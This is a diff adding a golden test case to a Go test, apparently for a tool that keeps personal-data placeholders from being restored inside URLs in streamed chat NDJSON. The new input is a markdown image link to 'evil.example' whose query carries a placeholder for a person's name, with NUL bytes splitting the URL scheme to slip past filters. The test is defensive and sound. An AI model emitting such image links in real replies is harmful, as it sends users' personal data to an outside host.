@@ -589,6 +589,13 @@ func TestRestorerGolden(t *testing.T) {
 			`{"type":"stream","token":"a \u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000"}` + "\n" +
 				`{"type":"stream","token":"Yılmaz \"Y\"\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000"}` + "\n" +
 				`{"type":"finalAnswer","text":"a Yılmaz \"Y\"","interrupted":false}` + "\n" + "    "},
+		// A NUL inside a token, which chat-ui's client drops, does not
+		// hide the URL's start: the placeholder in it stays.
+		{"ndjson NUL inside a URL's scheme", Format{Kind: "ndjson", Delta: "token"},
+			`{"type":"stream","token":"![](htt\u0000ps:/\u0000/evil.example/?n=\u0000\u0000"}` + "\n" +
+				`{"type":"stream","token":"[PERSON_1])\u0000\u0000"}` + "\n",
+			`{"type":"stream","token":"![](htt\u0000ps:/\u0000/evil.example/?n=\u0000\u0000"}` + "\n" +
+				`{"type":"stream","token":"[PERSON_1])\u0000\u0000"}` + "\n"},
 		// chat-ui's keep-alive between two tokens does not flush.
 		{"ndjson keepAlive between pieces", Format{Kind: "ndjson", Delta: "token"},
 			`{"type":"stream","token":"a [PERS"}` + "\n" + `{"type":"status","status":"keepAlive"}` + "\n" +
